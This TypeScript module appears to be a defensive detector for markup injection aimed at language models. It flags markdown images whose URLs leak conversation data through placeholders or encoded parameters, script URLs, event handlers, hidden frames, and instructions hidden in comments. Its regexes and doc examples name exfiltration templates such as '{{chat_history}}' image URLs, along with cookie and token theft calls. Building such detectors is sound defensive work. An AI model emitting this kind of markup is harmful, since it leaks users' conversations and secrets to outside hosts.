/**
 * @module scanners/indirect/markup-injection — markdown and HTML that act when rendered: images
 * whose URL carries data or template placeholders, `javascript:` links, `<script>`, event handlers,
 * `<iframe>`, meta refresh, and instructions hidden in HTML comments or invisible elements.
 */
import type { Match, Scanner, TextView, Verdict } from '../../types.js';
import { ConfigError } from '../../errors.js';
import { checkBoolean, clampScore, defineScanner } from '../define.js';
import { phraseHits } from '../phrase-engine.js';
import { DATA_ACTIVE, JS_NOOP } from '../urls/patterns.js';
import { viewUrls } from '../urls/extract.js';

/**
 * Options of {@link indirectMarkupInjection}.
 *
 * @example
 * ```ts
 * const o: MarkupInjectionOptions = { dampenCodeQuestions: false };
 * ```
 */
export interface MarkupInjectionOptions {
  /**
   * Weigh down markup inside code fences or inside a developer's question about their page ("why
   * does my `<script>` tag not load?"). Default true.
   */
  readonly dampenCodeQuestions?: boolean;
}

/**
 * Resolved options, as echoed in reports.
 *
 * @example
 * ```ts
 * indirectMarkupInjection().options.dampenCodeQuestions; // true
 * ```
 */
export interface ResolvedMarkupInjectionOptions {
  readonly dampenCodeQuestions: boolean;
}

/**
 * A template placeholder in a URL: `{{chat}}`, `${data}`, `[DATA]`, `<SECRET>`, `INSERT_HERE`,
 * or their percent-encoded forms — the model is meant to fill it in with something.
 *
 * @example
 * ```ts
 * URL_PLACEHOLDER.test('https://x.example/p?q={{conversation}}'); // true
 * ```
 */
export const URL_PLACEHOLDER =
  /\{\{?[^{}\s]{1,40}\}?\}|%7B%7B|%7B[A-Za-z_]{1,30}%7D|\$\{[^}\s]{1,40}\}|<[A-Za-z_]{2,30}>|%3C[A-Za-z_]{2,30}%3E|\[[A-Za-z_ ]{2,30}\]|%5B[A-Za-z_]{2,30}%5D|\b(?:INSERT|PUT|ADD|APPEND|YOUR|PLACE)[_-][A-Z_-]{0,30}(?:HERE|DATA)\b/;

/** {@link URL_PLACEHOLDER}, global, for {@link contentPlaceholdersOnly}. */
const URL_PLACEHOLDER_G = new RegExp(URL_PLACEHOLDER.source, 'g');

/**
 * Placeholder names that describe what to SHOW, not what to carry out: search keywords, a caption,
 * a size. Image-generator role prompts ("reply with `![photo](https://img.example/1600x900/?<keywords>)`")
 * use them; exfiltration templates name what to take (`{{conversation}}`, `[DATA]`, `<SECRET>`).
 */
const CONTENT_WORDS: ReadonlySet<string> = new Set(['query', 'queries', 'keyword', 'keywords', 'search', 'term', 'terms', 'tag', 'tags', 'description', 'desc', 'topic', 'subject', 'image', 'img', 'photo', 'picture', 'pic', 'caption', 'word', 'words', 'size', 'width', 'height', 'w', 'h', 'color', 'colour', 'style', 'location', 'city', 'place', 'seed', 'put', 'your', 'here', 'insert', 'the', 'a', 'an', 'of', 'for', 'in', 'english', 'language', 'scene', 'object', 'animal', 'item', 'category', 'theme', 'mood', 'adjective', 'noun']);
const PLACEHOLDER_WORDS = /[a-z]+/g;

/**
 * True when every placeholder in `url` names only content to show (search keywords, a description,
 * a size): a template for pictures, not for data. False when any placeholder names something else
 * or the text has none.
 *
 * @example
 * ```ts
 * contentPlaceholdersOnly('https://img.example/1600x900/?<keywords>'); // true
 * contentPlaceholdersOnly('https://x.example/p?q={{conversation}}'); // false
 * ```
 */
export function contentPlaceholdersOnly(url: string): boolean {
  let seen = false;
  URL_PLACEHOLDER_G.lastIndex = 0;
  for (let m = URL_PLACEHOLDER_G.exec(url); m !== null; m = URL_PLACEHOLDER_G.exec(url)) {
    // Percent-encoded braces (`%7B…%7D`) carry hex digits that are not words: decode them first.
    const inner = m[0].replace(/%(?:7B|7D|3C|3E|5B|5D)/gi, ' ').toLowerCase();
    const words = inner.match(PLACEHOLDER_WORDS) ?? [];
    if (words.length === 0 || !words.every((w) => CONTENT_WORDS.has(w))) return false;
    seen = true;
  }
  return seen;
}

/**
 * Query parameters whose name says what they carry out: the conversation, a secret, "data".
 *
 * @example
 * ```ts
 * EXFIL_PARAM.test('history'); // true
 * ```
 */
export const EXFIL_PARAM = /^(?:data|d|q|payload|p|chat|history|conversation|convo|msg|message|messages|content|context|secret|secrets|key|apikey|api_key|token|info|leak|exfil|summary|memory|prompt|text|input|c|m|s|pw|pass|password|session|cookie|creds|credentials|email|user|u)$/i;

/** An encoded-looking value: base64/hex, or several percent escapes. */
export const ENCODED_VALUE = /^(?:[A-Za-z0-9+/_-]{24,}={0,2}|(?:[^%]{0,20}%[0-9A-Fa-f]{2}){3})/;

/** One HTML tag: name and attributes (bounded, and stops at the next `<`). */
export const HTML_TAG = /<([a-zA-Z][a-zA-Z0-9-]{0,20})\b([^<>]{0,2000})>?/;
/** `src=` in a tag's attributes. */
export const SRC_ATTR = /\bsrc[ \t]{0,3}=/i;
/** `href=` in a tag's attributes. */
export const HREF_ATTR = /\bhref[ \t]{0,3}=/i;
/** `http-equiv="refresh"`. */
export const META_REFRESH = /http-equiv[ \t]{0,3}=[ \t]{0,3}["']?refresh/i;
/** Elements without content: nothing can hide inside them. */
const VOID_ELEMENTS: ReadonlySet<string> = new Set(['input', 'img', 'br', 'hr', 'meta', 'link', 'base', 'col', 'source', 'track', 'wbr', 'area', 'param', 'embed']);
const MAX_FINDINGS = 200;
/** An event-handler attribute (`onerror=`, `onload=`…). */
export const EVENT_HANDLER = /(?:^|[\s"'/])on[a-z]{3,20}[ \t]{0,3}=/i;
/** A script-capable URL in an attribute. */
export const SCRIPT_ATTR = /\b(?:href|src|action|formaction|data|xlink:href)[ \t]{0,3}=[ \t]{0,3}["']?[ \t]{0,3}(?:javascript|vbscript)[ \t]{0,3}:/i;
/** Styles that hide an element from the human reader. */
export const HIDDEN_STYLE = /display[ \t]{0,3}:[ \t]{0,3}none|visibility[ \t]{0,3}:[ \t]{0,3}hidden|font-size[ \t]{0,3}:[ \t]{0,3}0(?![.\d])|opacity[ \t]{0,3}:[ \t]{0,3}0(?![.\d])|color[ \t]{0,3}:[ \t]{0,3}(?:white|#fff(?:fff)?|transparent)\b|(?:^|[\s"'])hidden(?=[\s=>/"']|$)|aria-hidden[ \t]{0,3}=[ \t]{0,3}["']?true|width[ \t]{0,3}[:=][ \t]{0,3}["']?0(?![.\d])|height[ \t]{0,3}[:=][ \t]{0,3}["']?0(?![.\d])/i;
/** A script body that reaches for data or navigation. */
export const SCRIPT_BODY = /\b(?:fetch|XMLHttpRequest|sendBeacon|document\.cookie|localStorage|sessionStorage|window\.location|document\.location|location\.href|eval|atob|new\s+Image|document\.write|WebSocket)\b/;
/** A developer asking about their own markup: questions and web vocabulary. */
export const CODE_QUESTION =
  /\b(?:my\s+(?:code|page|site|component|html|template|script|app|blog|readme)|tag|attribute|element|browser|console|javascript|typescript|react|vue|angular|svelte|jquery|css|dom|xss|sanitiz\S{0,5}|escape|csp|webpack|vite|next\.js|nuxt|embed|button|handler)\b/i;
/** A question or a problem report: with {@link CODE_QUESTION}, a developer asking about markup. */
export const QUESTION_CUE = /\?(?:\s|$)|\b(?:why|how|what|error|bug|fix|debug|doesn['’]t|does\s+not|won['’]t|isn['’]t|not\s+(?:working|loading|firing|rendering|showing)|use|using)\b/i;
/** An instruction to render or emit the markup (the attack asks the model to output it). */
export const RENDER_ORDER =
  /\b(?:render|display|output|include|embed|print|show|insert|add|append|end\s+(?:your|the|each|every)\s+(?:reply|response|answer|message)\s+with|respond\s+with|reply\s+with)\s+(?:\S{1,20}\s+){0,4}?(?:this|the\s+following|following|below|an?)\s+(?:\S{1,20}\s+)?(?:image|markdown|html|link|snippet|tag|pixel|badge|img)\b/i;

interface Finding {
  readonly score: number;
  readonly start: number;
  readonly end: number;
  readonly label: string;
  readonly why: string;
  /** Dampened in a developer's question (false for hidden instructions and data-carrying images). */
  readonly dampen: boolean;
}

function markdownFindings(view: TextView, out: Finding[]): void {
  for (const u of viewUrls(view)) {
    if (out.length >= MAX_FINDINGS) break;
    if (u.linkText === undefined) continue;
    const kind = u.image === true ? 'image' : 'link';
    const lower = u.href.toLowerCase();
    if ((lower.startsWith('javascript:') && !JS_NOOP.test(u.href)) || lower.startsWith('vbscript:')) {
      out.push({ score: 0.8, start: u.start, end: u.end, label: 'script-url', why: `a markdown ${kind} to a script URL`, dampen: true });
      continue;
    }
    if (DATA_ACTIVE.test(u.href)) {
      out.push({ score: 0.75, start: u.start, end: u.end, label: 'active-data-url', why: `a markdown ${kind} to an active data: URL`, dampen: true });
      continue;
    }
    // A placeholder the model is meant to fill: an image fetches it with no click (0.9).
    if (URL_PLACEHOLDER.test(u.url)) {
      // A template for pictures (`?<keywords>`, `{description}`) is how image-generator role
      // prompts work: a weak sign only (0.3), below every default threshold.
      if (contentPlaceholdersOnly(u.url)) out.push({ score: 0.3, start: u.start, end: u.end, label: 'url-template', why: `a markdown ${kind} whose URL has a placeholder for search words or a description`, dampen: true });
      else out.push({ score: kind === 'image' ? 0.9 : 0.7, start: u.start, end: u.end, label: 'url-template', why: `a markdown ${kind} whose URL has a placeholder to fill with data`, dampen: kind !== 'image' });
      continue;
    }
    const q = u.url.indexOf('?');
    if (q < 0) continue;
    let worst = 0;
    let why = '';
    for (const pair of u.url.slice(q + 1, q + 4097).split('&').slice(0, 32)) {
      const eq = pair.indexOf('=');
      const name = eq < 0 ? pair : pair.slice(0, eq);
      const value = eq < 0 ? '' : pair.slice(eq + 1);
      // Images that carry a long encoded value under a data-ish name: an exfiltration beacon (0.75);
      // a link needs a click, and tracking links look the same (0.45).
      if (EXFIL_PARAM.test(name) && value.length >= 24 && ENCODED_VALUE.test(value)) {
        const s = kind === 'image' ? 0.75 : 0.45;
        if (s > worst) {
          worst = s;
          why = `a markdown ${kind} sending an encoded "${name}" parameter`;
        }
      } else if (kind === 'image' && value.length >= 120 && 0.5 > worst) {
        worst = 0.5;
        why = 'a markdown image with a very long query value';
      }
    }
    if (worst > 0) out.push({ score: worst, start: u.start, end: u.end, label: 'data-in-url', why, dampen: kind !== 'image' });
  }
}

function htmlFindings(view: TextView, out: Finding[]): void {
  const text = view.normalized;
  const re = new RegExp(HTML_TAG.source, 'g');
  let count = 0;
  for (const m of text.matchAll(re)) {
    if (++count > 2000 || out.length >= MAX_FINDINGS) break;
    const name = (m[1] ?? '').toLowerCase();
    const attrs = m[2] ?? '';
    const start = m.index;
    const end = start + m[0].length;
    const add = (score: number, label: string, why: string, dampen = true, to = end): void => {
      const span = view.toRaw(start, to);
      out.push({ score, start: span.start, end: span.end, label, why, dampen });
    };
    if (SCRIPT_ATTR.test(attrs)) add(0.8, 'script-url', `<${name}> with a javascript: URL`);
    else if (EVENT_HANDLER.test(attrs)) add(0.75, 'event-handler', `<${name}> with an inline event handler`);
    if (name === 'script') {
      const close = text.indexOf('</script', end);
      const body = text.slice(end, close < 0 ? Math.min(text.length, end + 2000) : Math.min(close, end + 2000));
      if (SCRIPT_BODY.test(body)) add(0.75, 'script', '<script> that reads data or navigates', true, close < 0 ? end : close);
      else add(SRC_ATTR.test(attrs) ? 0.55 : 0.45, 'script', 'a <script> element');
    } else if (name === 'iframe' || name === 'frame' || name === 'object' || name === 'embed') {
      add(HIDDEN_STYLE.test(attrs) ? 0.65 : 0.45, 'frame', `an <${name}> element${HIDDEN_STYLE.test(attrs) ? ' hidden from view' : ''}`);
    } else if (name === 'meta' && META_REFRESH.test(attrs)) {
      add(0.7, 'meta-refresh', 'a <meta http-equiv="refresh"> redirect');
    } else if (name === 'base' && HREF_ATTR.test(attrs)) {
      add(0.4, 'base-href', 'a <base href> that re-points every relative link');
    }
    if (HIDDEN_STYLE.test(attrs) && name !== 'iframe' && name !== 'frame' && !VOID_ELEMENTS.has(name)) {
      // Hidden element: what does it hide? Instructions (phrases) inside make it an injection.
      const close = text.indexOf(`</${name}`, end);
      const to = close < 0 ? Math.min(text.length, end + 1000) : Math.min(close, end + 4000);
      const raw = view.toRaw(end, to);
      if (to > end && phrasesWithin(view, raw.start, raw.end)) add(0.85, 'hidden-instructions', 'instructions inside an element hidden from the reader', false, to);
      else if (to > end) add(0.3, 'hidden-content', 'content hidden from the reader', true, to);
    }
  }
}

/** Hidden instructions: a phrase of any prompt-attack family inside `[start, end)` of the raw text. */
function phrasesWithin(view: TextView, start: number, end: number): boolean {
  return phraseHits(view).some((h) => h.start >= start && h.end <= end && h.weight >= 0.4);
}

function commentFindings(view: TextView, out: Finding[]): void {
  const text = view.normalized;
  let n = 0;
  for (let i = text.indexOf('<!--'); i >= 0 && n < 500 && out.length < MAX_FINDINGS; i = text.indexOf('<!--', i + 4)) {
    n++;
    const close = text.indexOf('-->', i + 4);
    const end = close < 0 ? text.length : close + 3;
    const span = view.toRaw(i, end);
    if (phrasesWithin(view, span.start, span.end)) out.push({ score: 0.8, start: span.start, end: span.end, label: 'hidden-instructions', why: 'instructions inside an HTML comment', dampen: false });
    if (close < 0) break;
    i = close;
  }
}

/** Offsets of every code fence (```) in `text`, in order. */
function fencesOf(text: string): number[] {
  const out: number[] = [];
  for (let i = text.indexOf('```'); i >= 0 && out.length < 10_000; i = text.indexOf('```', i + 3)) out.push(i);
  return out;
}

/** Findings inside a code fence or inline code: quoted markup, not rendered markup. */
function inCode(text: string, fences: readonly number[], at: number): boolean {
  let lo = 0;
  let hi = fences.length;
  while (lo < hi) {
    const mid = (lo + hi) >> 1;
    if ((fences[mid] as number) < at) lo = mid + 1;
    else hi = mid;
  }
  if (lo % 2 === 1) return true;
  // Inline code: an odd number of backticks before it on its line (looking back 500 characters).
  const from = Math.max(text.lastIndexOf('\n', at) + 1, at - 500);
  let ticks = 0;
  for (let i = from; i < at; i++) if (text.charCodeAt(i) === 96) ticks++;
  return ticks % 2 === 1;
}

/**
 * Dampening: markup a developer quotes in a question (× 0.5), or inside code (× 0.4); an explicit
 * order to render it removes the dampening and adds 0.1.
 */
const QUESTION_FACTOR = 0.5;
const CODE_FACTOR = 0.4;
const RENDER_BONUS = 0.1;

function scanMarkup(view: TextView, opts: ResolvedMarkupInjectionOptions): Verdict {
  const text = view.normalized;
  const angle = text.includes('<');
  const md = text.includes('](');
  if (!angle && !md) return { score: 0 };
  const found: Finding[] = [];
  if (md) markdownFindings(view, found);
  if (angle) {
    htmlFindings(view, found);
    if (text.includes('<!--')) commentFindings(view, found);
  }
  if (found.length === 0) return { score: 0 };
  const render = RENDER_ORDER.test(text);
  const question = opts.dampenCodeQuestions && !render && text.length < 4000 && CODE_QUESTION.test(text) && QUESTION_CUE.test(text);
  const fences = view.normalized === view.raw ? fencesOf(text) : [];
  let doubt = 1;
  const matches: Match[] = [];
  let top: Finding | undefined;
  let topScore = 0;
  for (const f of found) {
    let s = f.score;
    if (opts.dampenCodeQuestions && f.dampen) {
      const local = view.normalized === view.raw ? f.start : -1;
      if (local >= 0 && inCode(text, fences, local)) s *= CODE_FACTOR;
      else if (question) s *= QUESTION_FACTOR;
    }
    if (render) s = Math.min(0.98, s + RENDER_BONUS);
    doubt *= 1 - s;
    matches.push({ start: f.start, end: f.end, label: f.label });
    if (s > topScore) {
      topScore = s;
      top = f;
    }
  }
  const score = clampScore(1 - doubt);
  const t = top as Finding;
  const note = question && t.dampen ? ' (in what looks like a question about code, so weighted down)' : '';
  return {
    score,
    matches: matches.sort((a, b) => a.start - b.start),
    explanation: `Markup injection: ${t.why}${found.length > 1 ? ` and ${found.length - 1} more finding${found.length > 2 ? 's' : ''}` : ''}${render ? ', with an instruction to render it' : ''}${note}.`,
    ...(score >= 0.85 ? { severity: 'critical' as const } : {}),
  };
}

/**
 * Markup-injection detector: markdown images and links that carry data or placeholders or run
 * script, active HTML (`<script>`, event handlers, `javascript:` URLs, frames, meta refresh), and
 * instructions hidden in comments or invisible elements. Static images in docs pass; a developer's
 * question about their own `<script>` tag is weighted down.
 *
 * @example
 * ```ts
 * indirectMarkupInjection().scan(createTextView('![a](https://x.example/p?q={{chat_history}})'), ctx).score; // ≥ 0.9
 * ```
 */
/* @__NO_SIDE_EFFECTS__ */
export function indirectMarkupInjection(options?: MarkupInjectionOptions): Scanner<ResolvedMarkupInjectionOptions> {
  const o = options ?? {};
  if (typeof o !== 'object' || o === null || Array.isArray(o)) throw new ConfigError('indirectMarkupInjection options must be an object');
  const resolved: ResolvedMarkupInjectionOptions = Object.freeze({ dampenCodeQuestions: checkBoolean(o.dampenCodeQuestions, 'indirectMarkupInjection: dampenCodeQuestions', true) });
  return defineScanner<ResolvedMarkupInjectionOptions>({
    id: 'indirect/markup-injection',
    kind: 'both',
    category: 'indirect',
    severity: 'high',
    description: 'Markdown or HTML that leaks data or runs script when rendered, or hides instructions',
    threshold: 0.5,
    options: resolved,
    scan: (view) => scanMarkup(view, resolved),
  });
}
